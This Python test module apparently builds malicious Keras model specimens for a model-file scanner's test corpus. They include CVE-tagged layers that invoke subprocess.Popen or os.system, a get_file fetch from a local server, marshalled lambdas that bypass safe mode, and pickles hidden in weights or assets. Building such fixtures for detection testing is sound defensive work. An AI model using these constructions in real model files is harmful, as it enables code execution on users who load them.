"""Keras: layers that carry code, configurations that name functions, weights that are pickles."""

from __future__ import annotations

import base64
import json
import marshal
from typing import Any, Final

from tests.corpus.formats.hdf5 import hdf5
from tests.corpus.formats.numpy_files import npy_objects, npz
from tests.corpus.formats.pickles import stream
from tests.corpus.formats.protobuf import saved_model
from tests.corpus.formats.zips import Member, zip_of
from tests.corpus.malicious.common import ATTACK, one_file
from tests.corpus.payloads import EXPRESSION, SHELL
from tests.corpus.specimen import MALICIOUS, NEVER_CLEAN, Specimen, Verdict

Config = dict[str, Any]
Call = tuple[str, str, list[Any], Config]

METADATA: Final = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-03-01@12:00:00"}).encode()


def specimens() -> list[Specimen]:
    return [*_functions(), *_lambdas(), *_weights(), *_saved_models()]


def keras_archive(config: Config, *more: Member) -> bytes:
    """A `.keras` file without weights."""
    honest = [
        Member(name="metadata.json", data=METADATA),
        Member(name="config.json", data=json.dumps(config).encode()),
    ]
    return zip_of(*honest, *more)


def sequential(*layers: Config) -> Config:
    return _object("keras", "Sequential", {"name": "model", "trainable": True, "layers": [_input(), *layers]})


def _object(module: str, name: str, config: Config | str) -> Config:
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def _input() -> Config:
    return _object("keras.layers", "InputLayer", {"batch_shape": [None, 1], "dtype": "float32", "name": "input"})


def _function(module: str, name: str) -> Config:
    """How Keras 3 refers to a function that is in no registry."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _functional(*calls: Call) -> Config:
    """A model whose layers are functions; each is called with the arguments of its inbound node."""
    layers: list[Config] = [{**_input(), "name": "input", "inbound_nodes": []}]
    for i, (module, name, args, kwargs) in enumerate(calls):
        layer = _function(module, name)
        layers.append({**layer, "name": f"layer_{i}", "inbound_nodes": [{"args": args, "kwargs": kwargs}]})
    edges = {"input_layers": [["input", 0, 0]], "output_layers": [["input", 0, 0]]}
    return _object(
        "keras.src.models.functional", "Functional", {"name": "model", "trainable": True, "layers": layers, **edges}
    )


def _keras(
    name: str,
    reference: str,
    description: str,
    content: bytes,
    *,
    path: str = "model.keras",
    expected: frozenset[Verdict] = MALICIOUS,
    loader: str | None = None,
) -> Specimen:
    return one_file(f"keras-{name}", "keras", reference, description, path, content, expected=expected, loader=loader)


def _functions() -> list[Specimen]:
    popen: Call = ("subprocess", "Popen", [["sh", "-c", SHELL]], {"bufsize": -1})
    fetched = {
        "fname": "libmodel.py",
        "origin": "http://127.0.0.1:9/libmodel.py",
        "cache_dir": ".",
        "cache_subdir": ".",
    }
    fetch: Call = ("keras.utils", "get_file", [], fetched)
    unsafe: Call = ("keras.config", "enable_unsafe_deserialization", [], {})
    activation = _object("keras.layers", "Dense", {"name": "fc", "units": 1, "activation": _function("os", "system")})
    mapped: Call = (
        "keras.tree",
        "map_structure",
        [{"class_name": "__lambda__", "config": {"value": [_code(), None, None]}}, [[1.0]]],
        {},
    )
    return [
        _keras(
            "CVE-2025-1550",
            "CVE-2025-1550",
            "A layer that is subprocess.Popen, called with its inbound node's arguments",
            keras_archive(_functional(popen)),
            loader="keras",
        ),
        _keras(
            "CVE-2025-1550-activation",
            "CVE-2025-1550",
            "An activation that is os.system",
            keras_archive(sequential(activation)),
        ),
        _keras(
            "CVE-2025-8747",
            "CVE-2025-8747",
            "keras' own get_file, called with a server and a folder of the author's choice",
            keras_archive(_functional(fetch)),
        ),
        _keras(
            "CVE-2025-9906",
            "CVE-2025-9906",
            "keras' own switch turns safe mode off, for the marshalled function that follows",
            keras_archive(_functional(unsafe, mapped)),
            loader="keras",
        ),
        _keras(
            "custom-object",
            "custom class",
            "A layer of a package that only the author has",
            keras_archive(sequential(_object("acme_layers", "Fused", {"name": "fused"}))),
            expected=NEVER_CLEAN,
        ),
    ]


def _code() -> str:
    """What Keras stores of a Lambda: its code object, marshalled, in base64."""
    function = eval(f"lambda x: ({EXPRESSION}, x)[1]")  # noqa: S307  # the text above
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


def _lambda3() -> Config:
    function = {"class_name": "__lambda__", "config": {"code": _code(), "defaults": None, "closure": None}}
    return _object("keras.layers", "Lambda", {"name": "lambda", "function": function, "arguments": {}})


def _lambda2() -> Config:
    config = {"name": "lambda", "function": [_code(), None, None], "function_type": "lambda", "arguments": {}}
    return {"class_name": "Lambda", "config": config}


def _lambdas() -> list[Specimen]:
    older = {"class_name": "Sequential", "config": {"name": "model", "layers": [_older_input(), _lambda2()]}}
    file = hdf5({"keras_version": "2.15.0", "backend": "tensorflow", "model_config": json.dumps(older)})
    wrapped = _object("keras.layers", "TimeDistributed", {"name": "wrapper", "layer": _lambda3()})
    nested = _object("keras", "Sequential", {"name": "inner", "layers": [_input(), wrapped]})
    archive = keras_archive(sequential(_lambda3()))
    attack = json.dumps(sequential(_lambda3())).encode()
    return [
        _keras(
            "lambda",
            "Lambda",
            "A Lambda layer with marshalled code",
            archive,
            expected=NEVER_CLEAN,
            loader="keras-unsafe",
        ),
        _keras(
            "lambda-nested",
            "Lambda",
            "The same within a wrapper within a model within the model",
            keras_archive(sequential(nested)),
            expected=NEVER_CLEAN,
        ),
        _keras(
            "CVE-2025-9905",
            "CVE-2025-9905",
            "The same in an .h5, for which Keras forgets about safe mode",
            file,
            path="model.h5",
            expected=NEVER_CLEAN,
            loader="keras",
        ),
        _keras(
            "lambda-named-bin",
            "extension",
            "The same .keras by another name",
            archive,
            path="weights.bin",
            expected=NEVER_CLEAN,
        ),
        _keras(
            "architecture-json",
            "Lambda",
            "The same as a lone model.json, for model_from_json",
            attack,
            path="model.json",
            expected=NEVER_CLEAN,
        ),
        _keras(
            "duplicate-config",
            "duplicate member",
            "Two members config.json, of which the last has the Lambda",
            keras_archive(sequential(), Member(name="config.json", data=attack)),
            expected=NEVER_CLEAN,
        ),
    ]


def _older_input() -> Config:
    return {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 1], "dtype": "float32", "name": "input"}}


def _weights() -> list[Specimen]:
    pickle, plain = stream(4, ATTACK), sequential()
    objects = npz({"layers": npy_objects(pickle)})
    return [
        _keras(
            "modelscan-262",
            "modelscan#262",
            "The weights of a .keras file are a bare pickle by the name of an .npz",
            keras_archive(plain, Member(name="model.weights.npz", data=pickle)),
            loader="zip-member:model.weights.npz",
        ),
        _keras(
            "modelscan-263",
            "modelscan#263",
            "The weights of a .keras file are an .npz with an array of objects",
            keras_archive(plain, Member(name="model.weights.npz", data=objects)),
        ),
        _keras(
            "pickle-in-assets",
            "nested pickle",
            "A pickle among the assets",
            keras_archive(plain, Member(name="assets/vocabulary.txt", data=pickle)),
            loader="zip-member:assets/vocabulary.txt",
        ),
    ]


def _saved_models() -> list[Specimen]:
    return [
        _keras(
            f"saved-model-{name}",
            "TensorFlow operator",
            f"A SavedModel with {' and '.join(operators)}",
            saved_model("Placeholder", *operators),
            path="saved_model.pb",
            expected=NEVER_CLEAN,
        )
        for name, operators in (("writes", ("ReadFile", "WriteFile")), ("python", ("PyFunc",)))
    ]
